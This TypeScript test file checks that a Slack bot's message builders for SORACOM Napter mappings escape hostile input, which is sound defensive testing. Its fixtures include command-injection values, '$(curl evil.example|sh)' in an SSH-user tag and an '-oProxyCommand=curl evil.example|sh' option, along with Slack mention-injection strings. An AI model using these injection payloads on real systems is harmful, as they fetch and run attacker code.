import { parseNapterCommand } from '../../src/domain/command/parse';
import { msg } from '../../src/domain/i18n/message-ref';
import type { Lang } from '../../src/domain/i18n/message-ref';
import { draftSupportTicket } from '../../src/domain/ticket';
import type { SimSnapshot } from '../../src/domain/soracom';
import { buildCandidatesMessage, buildDiagnosisParent, buildNoSuchNameMessage, progressText, simLabelText } from '../../src/slack/blocks/diagnosis';
import { deniedMessage, failureMessage, simAmbiguousMessage, simNotFoundMessage, usageErrorMessage } from '../../src/slack/blocks/errors';
import { helpMessage } from '../../src/slack/blocks/help';
import { historyMessage } from '../../src/slack/blocks/history';
import { homeView } from '../../src/slack/blocks/home';
import { ipCaptureMessage, mappingCardMessage, mappingListMessage, mappingResultMessage } from '../../src/slack/blocks/mapping';
import { buildCaptureLink, buildCaptureProgress } from '../../src/slack/blocks/peek';
import { buildConfirmObservedIp, buildDiagnosisThread, buildEphemeralResult } from '../../src/slack/blocks/thread';
import { buildTicketDraftMessages } from '../../src/slack/blocks/ticket';
import { notice, type SlackMessage } from '../../src/slack/blocks/common';
import { describeFailure } from '../../src/slack/failure';
import { reminderMessage } from '../../src/slack/present/reminder';
import { watchNoticeMessage } from '../../src/slack/present/watch';
import { emptyWatchState, summariseWatch } from '../../src/domain/watch/index';
import type { WatchView } from '../../src/use-cases/watch-view';
import type { StoredMapping } from '../../src/use-cases/ports/store';
import { diagnosisWith, event, MAPPING, NOW_MS, viewWith } from '../slack/blocks/fixtures';
import { HOSTILE, unsafeSequences } from './support/mrkdwn';

/**
 * The hostile-strings walk over every Block Kit builder: SIM names and tags, what users type, what SORACOM and
 * the config return, all carrying mentions, special mentions, disguised links, backticks, newlines and
 * invisible characters. Whatever a builder makes of them, no control sequence may survive unescaped.
 */
const OWN_USERS = ['U0ALICE', 'U0REQUESTER', 'U0CLOSER'];
const OWN_HOSTS = ['127.0.0.1', 'napter-bot.example.com', 'peek.example.com'];

const hostileSim: SimSnapshot = {
  simId: '8942310022000012345',
  imsi: '440101234567890',
  imsis: ['440101234567890'],
  name: HOSTILE,
  status: `active${HOSTILE}`,
  online: true,
  tags: { name: HOSTILE, ssh_user: `pi\`\`\`\n<!channel> $(curl evil.example|sh)` },
} as unknown as SimSnapshot;

const mapping: StoredMapping = {
  id: 'map-1',
  simId: hostileSim.simId,
  imsi: '440101234567890',
  ipAddress: '192.0.2.10',
  port: 40123,
  hostname: `p-abc.napter.soracom.io${HOSTILE}`,
  devicePort: 22,
  tlsRequired: false,
  sourceCidr: '203.0.113.5/32',
  durationSec: 1800,
  createdAtMs: NOW_MS,
  expiresAtMs: NOW_MS + 1_800_000,
  openedBy: { teamId: 'T1', userId: 'U0ALICE' },
  channelId: 'C0OPS',
};

/** A watched mapping whose SIM name comes from outside. */
function watchedView(): WatchView {
  const watched = {
    watchId: mapping.id,
    imsis: [mapping.imsi ?? ''],
    devicePort: mapping.devicePort,
    sourceIpRanges: [mapping.sourceCidr],
    openedAtMs: mapping.createdAtMs,
    expiresAtMs: mapping.expiresAtMs,
    requesterAddresses: [],
  };
  return { mapping, simLabel: HOSTILE, summary: summariseWatch(watched, emptyWatchState()) };
}

function messagesFor(lang: Lang): Array<[string, SlackMessage]> {
  const view = viewWith({
    lang,
    sim: { typed: HOSTILE, simId: hostileSim.simId, imsi: '440101234567890', name: HOSTILE },
    events: [{ ...event(990, 'DENIED'), connectionId: HOSTILE }, event(980, 'ACCESS')],
    probe: { kind: 'refused', port: 22, method: 'tcp-wait-first', atMs: NOW_MS, message: `422 ${HOSTILE}`, elapsedMs: 120 },
    diagnosis: diagnosisWith({
      summary: msg('diagnosis.verdict.source-ip-mismatch.summary', { ip: HOSTILE, sourceIp: HOSTILE }),
      nextSteps: [msg('diagnosis.step.compare-source-address', { ip: HOSTILE })],
      notes: [msg('diagnosis.note.retention', { hours: HOSTILE })],
    }),
  });
  const typedCommands = [
    `open ${HOSTILE} ssh`,
    `open gw-01 ${HOSTILE}`,
    `open gw-01 ssh for ${HOSTILE}`,
    `open gw-01 ssh from ${HOSTILE}`,
    `diagnose gw-01 since ${HOSTILE}`,
    `${HOSTILE} gw-01`,
    `close ${HOSTILE}:22`,
  ];
  const usageErrors = typedCommands.flatMap((text): Array<[string, SlackMessage]> => {
    const parsed = parseNapterCommand(text);
    return parsed.kind === 'usage-error' ? [[`usage error for ${JSON.stringify(text)}`, usageErrorMessage(lang, parsed)]] : [];
  });
  expect(usageErrors.length).toBeGreaterThan(3);
  const draft = draftSupportTicket(
    diagnosisWith(),
    {
      imsi: '440101234567890',
      simId: hostileSim.simId,
      simName: HOSTILE,
      device: { maker: HOSTILE, model: HOSTILE, productName: HOSTILE },
      details: { howToReproduce: HOSTILE, conditions: HOSTILE, environment: HOSTILE, whatWasTried: HOSTILE },
      botActions: [],
      packetCapture: { sessionId: HOSTILE, status: HOSTILE },
      auditEvents: [{ ...event(1, 'DENIED'), connectionId: HOSTILE }],
    },
    lang,
  );
  const listed = {
    mapping: { ...MAPPING, hostname: `p.napter.soracom.io${HOSTILE}`, sourceIpRanges: [HOSTILE] },
    sim: hostileSim,
    simId: hostileSim.simId,
    imsi: hostileSim.imsi,
  };
  return [
    ['the open reply', mappingResultMessage(lang, { mapping, simLabel: HOSTILE, sshUser: hostileSim.tags['ssh_user'] }, 'created')],
    ['the channel card', mappingCardMessage(lang, { mapping, simLabel: HOSTILE }, { kind: 'open' })],
    ['the closed card', mappingCardMessage(lang, { mapping, simLabel: HOSTILE }, { kind: 'closed', byUserId: 'U0CLOSER', atMs: NOW_MS })],
    ['the ended card', mappingCardMessage(lang, { mapping, simLabel: HOSTILE }, { kind: 'ended' })],
    [
      'the watch notice',
      watchNoticeMessage(lang, watchedView(), {
        mappingId: mapping.id,
        changes: [
          { kind: 'denied', sourceIp: HOSTILE, attempts: 2, requester: 'likely', ambiguous: false },
          { kind: 'ended', end: { how: 'deleted', atMs: NOW_MS, evidence: 'listing' } },
        ],
      }),
    ],
    ['the reminder', reminderMessage(lang, watchedView(), NOW_MS + 25 * 60_000, 1800)],
    [
      'the IP capture link',
      ipCaptureMessage(lang, {
        captureId: 'cap-1',
        url: `https://napter-bot.example.com/napter/ip/tok|${HOSTILE}>`,
        expiresAtMs: NOW_MS,
        simLabel: HOSTILE,
        devicePort: 22,
        durationSec: 1800,
      }),
    ],
    [
      'the list (own rows, endpoints shown)',
      mappingListMessage(lang, [{ ...listed, stored: mapping, simName: HOSTILE }], { userId: 'U0ALICE', isAdmin: false }, HOSTILE),
    ],
    ['the list (others)', mappingListMessage(lang, [{ ...listed, stored: undefined, simName: HOSTILE }], { userId: 'U0ALICE', isAdmin: true }, undefined)],
    ['the empty list', mappingListMessage(lang, [], { userId: 'U0ALICE', isAdmin: false }, HOSTILE)],
    ...usageErrors,
    ['a policy denial quoting a typed range', deniedMessage(lang, msg('policy.denied.source-invalid', { sourceCidr: HOSTILE }))],
    ['a policy denial naming the SIM', deniedMessage(lang, msg('policy.denied.sim', { action: 'open', simId: HOSTILE }))],
    ['SIM not found', simNotFoundMessage(lang, HOSTILE)],
    ['an ambiguous name', simAmbiguousMessage(lang, HOSTILE, [hostileSim, hostileSim], 'open')],
    ['a Slack failure', failureMessage(lang, describeFailure({ data: { error: HOSTILE } }), HOSTILE)],
    ['the diagnosis parent', buildDiagnosisParent(view)],
    ['the parent while re-running', buildDiagnosisParent(view, { rerunningBy: 'U0ALICE' })],
    ...buildDiagnosisThread(view).map((message, index): [string, SlackMessage] => [`thread reply ${index + 1}`, message]),
    ...buildEphemeralResult(view, buildDiagnosisParent(view, { ephemeral: true }), 5).map((message, index): [string, SlackMessage] => [
      `ephemeral result ${index + 1}`,
      message,
    ]),
    ['a progress line', notice(progressText(lang, HOSTILE, { kind: 'probe', port: 22 }))],
    ['the candidates', buildCandidatesMessage(lang, HOSTILE, [hostileSim, hostileSim])],
    ['no such name, did you mean', buildNoSuchNameMessage(lang, HOSTILE, [HOSTILE, `x${HOSTILE}`])],
    [
      'the capture progress',
      buildCaptureProgress({
        peekId: 'peek-1',
        simText: simLabelText(view.sim),
        durationSec: 120,
        startedBy: 'U0ALICE',
        status: HOSTILE,
        updatedAtMs: NOW_MS,
        lang,
      }),
    ],
    [
      'the failed capture',
      buildCaptureProgress({
        peekId: 'peek-1',
        simText: simLabelText(view.sim),
        durationSec: 120,
        startedBy: 'U0ALICE',
        status: 'FAILED',
        failedReason: HOSTILE,
        updatedAtMs: NOW_MS,
        lang,
      }),
    ],
    ['the capture link', buildCaptureLink(lang, `https://peek.example.com/x.pcap?sig=a|${HOSTILE}`)],
    ['the observed-address question', buildConfirmObservedIp(lang, { ip: HOSTILE, count: 3, diagnosisId: 'diag-1', remedyIndex: 0 })],
    ...buildTicketDraftMessages(lang, { draft, userId: 'U0ALICE', simText: simLabelText(view.sim) }).map((message, index): [string, SlackMessage] => [
      `ticket draft part ${index + 1}`,
      message,
    ]),
    ['help', helpMessage(lang)],
    ['the history', historyMessage(lang, hostileHistory(), HOSTILE, 'export-1')],
    ['the Home tab', { text: '', blocks: homeView(lang, hostileHome(), NOW_MS).blocks }],
  ];
}

/** A history whose SIM name, source range and note come from outside. */
function hostileHistory(): Parameters<typeof historyMessage>[1] {
  const row = { atMs: NOW_MS, userId: 'U0ALICE', simId: hostileSim.simId, mappingId: 'map-1', devicePort: 22, sourceCidr: HOSTILE };
  return {
    kind: 'listed',
    sinceMs: NOW_MS - 86_400_000,
    listing: {
      rows: [
        { ...row, action: 'open', connections: { access: 1, connected: 1 } },
        { ...row, action: 'denied', mappingId: 'map-2', note: HOSTILE },
        { ...row, action: 'ended', mappingId: 'map-2', note: HOSTILE },
      ],
      hidden: 2,
      truncated: true,
    },
    gaps: new Map([['map-2', 'rate-limited' as const]]),
    simLabels: new Map([[hostileSim.simId, HOSTILE]]),
  };
}

/** A Home tab whose SIM names, endpoints, ranges and diagnoses come from outside. */
function hostileHome(): Parameters<typeof homeView>[1] {
  const hostileMapping = { ...mapping, sourceCidr: HOSTILE };
  const diagnosis = {
    id: 'diag-1',
    teamId: 'T1',
    channelId: 'C0OPS',
    requestedBy: 'U0ALICE',
    simRefText: HOSTILE,
    windowFromMs: NOW_MS,
    windowToMs: NOW_MS,
    verdict: HOSTILE,
    diagnosis: {},
    lang: 'en' as const,
    parentTs: '1700000000.000100',
    createdAtMs: NOW_MS,
    updatedAtMs: NOW_MS,
  };
  return {
    own: [{ mapping: hostileMapping, simLabel: HOSTILE }],
    diagnoses: [{ diagnosis, simLabel: HOSTILE, atMs: NOW_MS }],
    others: [{ mapping: { ...hostileMapping, id: 'map-2', openedBy: { teamId: 'T1', userId: 'U0REQUESTER' } }, simLabel: HOSTILE }],
    more: { own: 1, others: 1 },
  };
}

describe.each(['en', 'ja'] as const)('every builder, in %s, fed hostile strings', (lang) => {
  const messages = messagesFor(lang);

  it.each(messages.map(([name, message]) => [name, message] as const))('%s: no control sequence survives unescaped', (_name, message) => {
    expect(unsafeSequences(message, { allowedUsers: OWN_USERS, allowedLinkHosts: OWN_HOSTS, allowedChannels: ['C0OPS'] })).toEqual([]);
  });

  it('the ssh_user tag cannot leave the code block or inject an ssh option or a shell command', () => {
    const reply = messagesFor(lang)[0]?.[1] as SlackMessage;
    const all = JSON.stringify(reply.blocks);
    expect(all).not.toContain('$(curl');
    expect(all).toMatch(/```ssh -p 40123 &lt;user&gt;@[^`]*```/);
    const forged = mappingResultMessage(lang, { mapping, simLabel: 'gw', sshUser: '-oProxyCommand=curl evil.example|sh' }, 'created');
    expect(JSON.stringify(forged.blocks)).not.toContain('ProxyCommand');
  });
});

it('the checker itself finds what it must (the walk is not vacuous)', () => {
  const raw = { text: HOSTILE, blocks: [{ type: 'section', text: { type: 'mrkdwn', text: `*${HOSTILE}*` } }] };
  const problems = unsafeSequences(raw, { allowedUsers: OWN_USERS, allowedLinkHosts: OWN_HOSTS }).map((finding) => finding.problem);
  for (const expected of ['<!channel>', '<!here>', '<@U0EVIL>', '<https://evil.example', '`x`', 'U+200b', '@channel']) {
    expect(problems.some((problem) => problem.includes(expected))).toBe(true);
  }
});
